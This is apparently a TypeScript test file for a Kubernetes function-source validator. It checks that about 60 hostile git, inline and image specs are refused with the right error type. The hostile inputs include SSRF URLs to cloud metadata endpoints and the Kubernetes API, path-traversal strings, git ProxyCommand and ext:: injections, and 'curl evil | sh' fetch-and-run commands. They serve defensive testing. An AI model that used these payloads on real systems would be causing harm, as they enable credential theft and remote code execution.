// Hostile sources: each one is refused with the right contract error type, directly and through the CLI.
import { mkdtempSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';

import { stringify } from 'yaml';

import type { LambdaFunction, LambdaFunctionSpec } from '../src/api';
import { checkSourceCli } from '../src/sources/cli';
import { resolvePolicy } from '../src/sources/policy';
import type { SourceErrorType } from '../src/sources/types';
import { validateLambdaFunction } from '../src/sources/validate-source';

const PY = { language: 'python', version: '3.11', handler: 'main.handler' } as const;
const NODE = { language: 'nodejs', version: '20', handler: 'index.handler' } as const;
const GO = { language: 'go', version: '1.22', handler: 'main.Handle' } as const;
const REPO = 'https://github.com/example/functions.git';

type Case = [string, SourceErrorType, Partial<LambdaFunctionSpec> & { name?: string }];

const git = (fields: Record<string, unknown>, runtime: LambdaFunctionSpec['runtime'] = PY) =>
  ({ source: { git: { url: REPO, ...fields } }, runtime }) as LambdaFunctionSpec;
const inline = (dependencies: string, runtime: LambdaFunctionSpec['runtime']) =>
  ({ source: { inline: { code: 'x', dependencies } }, runtime }) as LambdaFunctionSpec;

const HOSTILE: Case[] = [
  ['k8s API by service name', 'ssrf_blocked', git({ url: 'https://kubernetes.default.svc/api/v1/secrets' })],
  [
    'k8s API by FQDN with trailing dot',
    'ssrf_blocked',
    git({ url: 'https://kubernetes.default.svc.cluster.local./api' }),
  ],
  ['k8s API by ClusterIP', 'ssrf_blocked', git({ url: 'https://10.96.0.1:443/api' })],
  ['in-cluster service', 'ssrf_blocked', git({ url: 'https://vault.vault.svc:8200/v1/secret' })],
  ['single-label name via search path', 'ssrf_blocked', git({ url: 'https://grafana/api' })],
  ['AWS metadata', 'ssrf_blocked', git({ url: 'https://169.254.169.254/latest/meta-data/' })],
  ['ECS task metadata', 'ssrf_blocked', git({ url: 'https://169.254.170.2/v2/credentials' })],
  ['AWS IPv6 metadata', 'ssrf_blocked', git({ url: 'https://[fd00:ec2::254]/latest/' })],
  ['GCP metadata name', 'ssrf_blocked', git({ url: 'https://metadata.google.internal/computeMetadata/v1/' })],
  ['Alibaba metadata', 'ssrf_blocked', git({ url: 'https://100.100.100.200/latest/meta-data/' })],
  ['metadata in decimal', 'ssrf_blocked', git({ url: 'https://2852039166/' })],
  ['metadata in hex', 'ssrf_blocked', git({ url: 'https://0xa9fea9fe/' })],
  ['metadata in octal', 'ssrf_blocked', git({ url: 'https://0251.0376.0251.0376/' })],
  ['metadata IPv4-mapped IPv6', 'ssrf_blocked', git({ url: 'https://[::ffff:169.254.169.254]/' })],
  ['metadata behind userinfo', 'ssrf_blocked', git({ url: 'https://github.com@169.254.169.254/' })],
  ['loopback short form', 'ssrf_blocked', git({ url: 'https://127.1/' })],
  ['loopback IPv6', 'ssrf_blocked', git({ url: 'https://[::1]/' })],
  ['localhost with trailing dot', 'ssrf_blocked', git({ url: 'https://localhost./' })],
  ['unspecified address', 'ssrf_blocked', git({ url: 'https://0.0.0.0/' })],
  ['private range', 'ssrf_blocked', git({ url: 'https://192.168.0.10/repo.git' })],
  ['CGNAT range', 'ssrf_blocked', git({ url: 'https://100.64.1.1/repo.git' })],
  ['link-local IPv6', 'ssrf_blocked', git({ url: 'https://[fe80::1]/repo.git' })],
  ['multicast', 'ssrf_blocked', git({ url: 'https://239.1.1.1/repo.git' })],
  ['file URL', 'ssrf_blocked', git({ url: 'file:///var/run/secrets/kubernetes.io/serviceaccount/token' })],
  ['plain http to a public host', 'invalid_spec', git({ url: 'http://github.com/example/functions.git' })],
  ['ssh scp-style URL', 'invalid_spec', git({ url: 'git@github.com:example/functions.git' })],
  ['ssh ProxyCommand', 'injection', git({ url: 'ssh://-oProxyCommand=touch${IFS}pwned/x' })],
  ['ext:: remote helper', 'injection', git({ url: 'ext::sh -c id' })],
  ['shell metacharacters in URL', 'injection', git({ url: 'https://github.com/x/y.git;curl${IFS}evil' })],
  ['credentials in URL', 'invalid_spec', git({ url: 'https://user:ghp_token@github.com/x/y.git' })],
  ['path traversal', 'path_traversal', git({ path: '../../../etc' })],
  ['path traversal in the middle', 'path_traversal', git({ path: 'functions/../../proc/self' })],
  ['absolute path', 'path_traversal', git({ path: '/var/run/secrets/kubernetes.io/serviceaccount' })],
  ['percent-encoded traversal', 'path_traversal', git({ path: '%2e%2e/%2e%2e/etc' })],
  ['double-encoded traversal', 'path_traversal', git({ path: '%252e%252e/etc' })],
  ['backslash traversal', 'path_traversal', git({ path: '..\\..\\etc' })],
  ['NUL byte in path', 'path_traversal', git({ path: 'functions\0/../../etc' })],
  ['home directory path', 'path_traversal', git({ path: '~/.ssh' })],
  ['path into .git', 'path_traversal', git({ path: '.git/hooks' })],
  ['unicode dots', 'path_traversal', git({ path: '\u2024\u2024/etc' })],
  ['shell in path', 'injection', git({ path: 'fn;rm -rf /' })],
  ['ref with command', 'injection', git({ ref: 'main; curl evil | sh' })],
  ['ref as option', 'injection', git({ ref: '--upload-pack=touch /tmp/pwned' })],
  ['ref traversal', 'injection', git({ ref: 'refs/heads/../../config' })],
  ['ref with reflog syntax', 'injection', git({ ref: 'main@{1}' })],
  ['handler with quotes', 'injection', git({}, { ...PY, handler: 'main.handler"); import os; os.system("id' })],
  ['handler with template syntax', 'injection', git({}, { ...NODE, handler: '${process.exit(1)}.x' })],
  ['handler with newline', 'injection', git({}, { ...NODE, handler: 'index.handler\nrequire("child_process")' })],
  ['secretRef name', 'injection', git({ secretRef: { name: 'creds; id' } })],
  ['function name', 'injection', { ...git({}), name: 'x$(id)' }],
  ['npm install script', 'injection', inline(JSON.stringify({ scripts: { postinstall: 'curl evil|sh' } }), NODE)],
  [
    'npm git dependency',
    'injection',
    inline(JSON.stringify({ dependencies: { lodash: 'git+ssh://git@evil/x.git' } }), NODE),
  ],
  [
    'npm file dependency',
    'injection',
    inline(JSON.stringify({ dependencies: { secrets: 'file:../../../etc' } }), NODE),
  ],
  [
    'npm URL dependency',
    'injection',
    inline(JSON.stringify({ dependencies: { x: 'http://169.254.169.254/x.tgz' } }), NODE),
  ],
  ['pip index URL', 'injection', inline('--index-url http://169.254.169.254/simple\nrequests\n', PY)],
  ['pip direct URL', 'injection', inline('pkg @ file:///etc/passwd\n', PY)],
  ['pip editable VCS', 'injection', inline('-e git+https://evil.example/x.git#egg=x\n', PY)],
  ['go replace to a path', 'injection', inline('module fn\n\ngo 1.22\n\nreplace x => ../../../etc\n', GO)],
  ['go require with shell', 'injection', inline('module fn\nrequire example.com/x v1.0.0;id\n', GO)],
  ['two sources', 'invalid_spec', { source: { git: { url: REPO }, inline: { code: 'x' } }, runtime: PY }],
  [
    'unknown runtime',
    'invalid_spec',
    { source: { inline: { code: 'x' } }, runtime: { language: 'ruby', version: '3' } } as never,
  ],
  ['image with shell', 'injection', { source: { image: { repository: 'ghcr.io/x/y;id' } }, runtime: NODE }],
  ['wrongly typed path', 'invalid_spec', git({ path: 42 })],
];

const WELL_FORMED: Array<[string, LambdaFunctionSpec]> = [
  ['git with ref and path', git({ ref: 'release/v1.2', path: 'functions/hello-world_v2' })],
  ['git with a tag and a secret', git({ ref: 'v1.0.0', secretRef: { name: 'git-credentials' } })],
  ['git at a commit-like ref', git({ ref: '3f2a9c1' })],
  ['git with a nested python handler', git({}, { ...PY, handler: 'app.handlers.process' })],
  ['inline nodejs', inline(JSON.stringify({ dependencies: { axios: '^1.7.0' } }), NODE)],
  ['inline python', inline('requests==2.32.3\n', PY)],
  ['inline go', inline('module fn\n\ngo 1.22\n', GO)],
  ['image by tag', { source: { image: { repository: 'ghcr.io/org/app', tag: 'v1.2.3', port: 9000 } }, runtime: NODE }],
  [
    'image by digest',
    { source: { image: { repository: 'registry:5000/app', digest: `sha256:${'a'.repeat(64)}` } }, runtime: GO },
  ],
];

function lambdaFunction([, , { name, ...spec }]: Case): LambdaFunction {
  return {
    apiVersion: 'lambda.knative.io/v1alpha1',
    kind: 'LambdaFunction',
    metadata: { name: name ?? 'hostile', namespace: 'redteam-test' },
    spec: spec as LambdaFunctionSpec,
  };
}

const policy = resolvePolicy({ allowList: [] });

describe('hostile sources', () => {
  it('has well over 30 of them', () => {
    expect(HOSTILE.length).toBeGreaterThanOrEqual(60);
  });

  it.each(HOSTILE)('refuses %s as %s', (...testCase) => {
    const verdict = validateLambdaFunction(lambdaFunction(testCase), policy);
    expect(verdict).toMatchObject({ allowed: false, errorType: testCase[1], reason: expect.any(String) });
  });

  it.each(WELL_FORMED)('allows a well-formed source: %s', (_, spec) => {
    expect(validateLambdaFunction(lambdaFunction(['', 'invalid_spec', spec]), policy)).toEqual({ allowed: true });
  });

  it('gives the same verdicts through the check-source CLI, and exits 1', async () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), 'hostile-'));
    const file = path.join(dir, 'hostile.yaml');
    writeFileSync(file, HOSTILE.map((c) => stringify(lambdaFunction(c))).join('---\n'));
    const lines: string[] = [];
    const status = await checkSourceCli(['check-source', file, '--allow-source-hosts='], {
      stdout: (l) => lines.push(l),
      stderr: () => {},
    });
    expect(status).toBe(1);
    const verdicts = lines.map((l) => JSON.parse(l));
    expect(verdicts.map((v) => v.errorType)).toEqual(HOSTILE.map(([, errorType]) => errorType));
    expect(verdicts.every((v) => v.allowed === false && v.reason.length > 20)).toBe(true);
  });
});
